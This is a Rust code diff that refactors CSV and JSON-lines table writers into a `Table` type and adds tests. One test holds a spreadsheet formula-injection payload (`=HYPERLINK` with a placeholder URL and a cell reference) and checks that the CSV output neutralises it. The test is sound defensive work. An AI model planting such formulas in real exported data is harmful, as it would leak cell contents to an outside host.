@@ -6,35 +6,55 @@ use serde_json::{Map, Value};
 use crate::error::{Error, Result};
 use crate::evidence::DataFile;
 
-/// One row: field to value, every row of a table with the same fields in the same order.
-pub(super) type Fields = Vec<(&'static str, Value)>;
-
-/// One canonical JSON object a line.
-pub(super) fn jsonl(name: &str, rows: &[Fields]) -> DataFile {
-    let mut bytes = Vec::new();
-    for row in rows {
-        let object: Map<_, _> = row.iter().map(|(k, v)| ((*k).to_owned(), v.clone())).collect();
-        bytes.extend(canonical::bytes(&canonical::exact(Value::Object(object))));
-        bytes.push(b'\n');
-    }
-    DataFile { name: name.to_owned(), rows: rows.len() as u64, bytes }
+/// A table of a pack: rows that all have the same fields.
+pub(super) struct Table {
+    /// The name of its files, without their ending.
+    pub(super) name: &'static str,
+    /// The names of its fields, in order.
+    pub(super) fields: &'static [&'static str],
+    /// One value for each field.
+    pub(super) rows: Vec<Vec<Value>>,
 }
 
-/// A header and one line a row. A cell that a spreadsheet would take for a formula is written with a
-/// `'` before it; the JSON lines hold it as it is.
-pub(super) fn csv(name: &str, rows: &[Fields]) -> Result<DataFile> {
-    let failed = |e: csv::Error| Error::bug(format!("{name} could not be written.")).because(e);
-    let mut writer = csv::Writer::from_writer(Vec::new());
-    if let Some(first) = rows.first() {
-        writer.write_record(first.iter().map(|(field, _)| field)).map_err(failed)?;
+impl Table {
+    /// A table of rows with exactly these fields.
+    pub(super) fn new<const N: usize>(
+        name: &'static str,
+        fields: &'static [&'static str; N],
+        rows: impl IntoIterator<Item = [Value; N]>,
+    ) -> Self {
+        Self { name, fields, rows: rows.into_iter().map(Vec::from).collect() }
     }
-    for row in rows {
-        writer.write_record(row.iter().map(|(_, value)| harmless(&cell(value)))).map_err(failed)?;
+
+    /// One canonical JSON object a line.
+    pub(super) fn jsonl(&self) -> DataFile {
+        let mut bytes = Vec::new();
+        for row in &self.rows {
+            let names = self.fields.iter().map(|name| (*name).to_owned());
+            let object: Map<_, _> = names.zip(row.iter().cloned()).collect();
+            bytes.extend(canonical::bytes(&canonical::exact(Value::Object(object))));
+            bytes.push(b'\n');
+        }
+        self.file("jsonl", bytes)
     }
-    let bytes = writer
-        .into_inner()
-        .map_err(|e| Error::bug(format!("{name} could not be written.")).because(e.to_string()))?;
-    Ok(DataFile { name: name.to_owned(), rows: rows.len() as u64, bytes })
+
+    /// A header, also where no row follows, and one line a row. A cell that a spreadsheet would take
+    /// for a formula is written with a `'` before it; the JSON lines hold it as it is.
+    pub(super) fn csv(&self) -> Result<DataFile> {
+        let failed = || Error::bug(format!("{}.csv could not be written.", self.name));
+        let mut writer = csv::Writer::from_writer(Vec::new());
+        writer.write_record(self.fields).map_err(|e| failed().because(e))?;
+        for row in &self.rows {
+            let cells = row.iter().map(|value| harmless(&cell(value)));
+            writer.write_record(cells).map_err(|e| failed().because(e))?;
+        }
+        let bytes = writer.into_inner().map_err(|e| failed().because(e.to_string()))?;
+        Ok(self.file("csv", bytes))
+    }
+
+    fn file(&self, ending: &str, bytes: Vec<u8>) -> DataFile {
+        DataFile { name: format!("{}.{ending}", self.name), rows: self.rows.len() as u64, bytes }
+    }
 }
 
 fn cell(value: &Value) -> String {
@@ -58,13 +78,24 @@ mod tests {
 
     #[test]
     fn a_name_that_is_a_formula_is_text_in_the_spreadsheet_and_itself_in_the_lines() {
-        let rows = [vec![("name", json!("=HYPERLINK(\"http://e?\"&A1)")), ("count", json!(-1))]];
-        let table = csv("t.csv", &rows).expect("it fits in memory");
+        let row = [json!("=HYPERLINK(\"http://e?\"&A1)"), json!(-1)];
+        let table = Table::new("t", &["name", "count"], [row]);
         assert_eq!(
-            String::from_utf8(table.bytes).expect("CSV is UTF-8"),
+            text(&table.csv().expect("it fits in memory")),
             "name,count\n\"'=HYPERLINK(\"\"http://e?\"\"&A1)\",'-1\n"
         );
-        let lines = String::from_utf8(jsonl("t.jsonl", &rows).bytes).expect("JSON is UTF-8");
+        let lines = text(&table.jsonl());
         assert_eq!(lines, "{\"count\":-1,\"name\":\"=HYPERLINK(\\\"http://e?\\\"&A1)\"}\n");
+    }
+
+    #[test]
+    fn a_table_without_rows_still_says_what_its_columns_are() {
+        let table = Table::new("t", &["what", "because"], []);
+        assert_eq!(text(&table.csv().expect("it fits in memory")), "what,because\n");
+        assert_eq!(text(&table.jsonl()), "");
+    }
+
+    fn text(file: &DataFile) -> String {
+        String::from_utf8(file.bytes.clone()).expect("both are UTF-8")
     }
 }
